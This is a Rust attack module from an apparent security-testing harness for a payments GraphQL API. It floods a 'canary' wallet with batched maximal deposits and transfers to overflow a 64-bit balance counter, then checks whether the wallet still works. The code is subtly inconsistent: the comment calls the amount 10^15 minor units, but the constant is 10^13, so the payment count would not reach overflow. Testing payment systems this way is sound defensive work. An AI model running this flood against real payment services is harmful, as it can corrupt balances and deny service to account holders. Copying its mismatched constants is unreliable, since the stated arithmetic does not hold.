//! Payments of the largest amount into somebody's wallet, until no account could count any further in 64 bits.

use std::{
    sync::{
        Arc,
        atomic::{AtomicUsize, Ordering},
    },
    time::Duration,
};

use serde_json::json;
use tokio::{task::JoinSet, time::Instant};

use crate::{
    attacks::{
        attack::{Attack, Tally},
        stage::Stage,
        wire::Wire,
    },
    harness::User,
};

/// 9,223 of them fill a counter of 64 bits.
const PAYMENTS: usize = 9300;
/// 10^15 minor units.
const LARGEST: &str = "10000000000000";
/// How many payments are sent in one request.
const TOGETHER: usize = 20;
const PAYERS: usize = 4;
const WORKERS_OF_EACH: usize = 2;
/// How long the payers try.
const LONGEST: Duration = Duration::from_mins(3);

pub async fn largest(stage: &Stage) -> Attack {
    let mut payers = Vec::new();
    for number in 0..PAYERS {
        payers.push(stage.user(&format!("payer{number}")).await);
    }
    let friend = stage.user("friend").await;
    friend.fund("1000").await;
    let (tally, url, canary) = (Tally::default(), stage.url().to_owned(), stage.canary.clone());
    let of_run = tally.clone();
    Attack::new(&tally, async move {
        let (left, end) = (Arc::new(AtomicUsize::new(PAYMENTS / TOGETHER)), Instant::now() + LONGEST);
        let mut workers = JoinSet::new();
        for (number, payer) in payers.into_iter().enumerate() {
            for _ in 0..WORKERS_OF_EACH {
                let wire = Wire::of_stranger(&url, number).with_token(payer.client.token.as_deref());
                workers.spawn(pay(of_run.clone(), wire, payer.wallet.clone(), left.clone(), end));
            }
        }
        workers.join_all().await;
        still_usable(&of_run, &url, &canary, &friend).await;
    })
}

/// Takes money in and pays it, again and again.
async fn pay(tally: Tally, wire: Wire, wallet: String, left: Arc<AtomicUsize>, end: Instant) {
    let one = |number: usize| {
        format!(
            "d{number}: deposit(input: {{ wallet: {{ id: \"{wallet}\" }}, amount: \"{LARGEST}\" }}) {{
                 userErrors {{ code }} }}
             t{number}: transfer(input: {{
                 from: {{ id: \"{wallet}\" }}, to: {{ username: \"canary\" }}, amount: \"{LARGEST}\" }}) {{
                 userErrors {{ code }} }}"
        )
    };
    let query = format!("mutation {{ {} }}", (0..TOGETHER).map(one).collect::<Vec<_>>().join("\n"));
    let take = |left: usize| left.checked_sub(1);
    while Instant::now() < end && left.fetch_update(Ordering::SeqCst, Ordering::SeqCst, take).is_ok() {
        match wire.ask_for_payloads(&query).await {
            Ok(payloads) => {
                for (name, payload) in payloads {
                    let what = if name.starts_with('d') { "deposit" } else { "payment" };
                    tally.add(format!("{what} {}", payload["userErrors"][0]["code"].as_str().unwrap_or("done")));
                }
            }
            Err(failure) => tally.add(failure),
        }
    }
}

/// Whether the wallet that was paid into is as good as before.
async fn still_usable(tally: &Tally, url: &str, canary: &User, friend: &User) {
    let wire = Wire::of_canary(url, true);
    let [own, of_friend] = [canary, friend].map(|user| wire.with_token(user.client.token.as_deref()));
    let (wallet, theirs) = (json!({ "id": canary.wallet }), json!({ "id": friend.wallet }));
    let put = json!({ "wallet": wallet, "amount": "1" });
    for (wire, name, input_type, input) in [
        (&own, "deposit", "DepositInput", put.clone()),
        (&own, "withdraw", "WithdrawInput", put),
        (&own, "transfer", "TransferInput", json!({ "from": wallet, "to": theirs, "amount": "1" })),
        (&of_friend, "transfer", "TransferInput", json!({ "from": theirs, "to": wallet, "amount": "1" })),
    ] {
        let query = format!("mutation($input: {input_type}!) {{ {name}(input: $input) {{ userErrors {{ code }} }} }}");
        if let Err(failure) = wire.ask(&query, json!({ "input": input })).await {
            tally.reached(format!("afterwards a {name} with the canary's wallet fails: {failure}"));
        }
    }
}
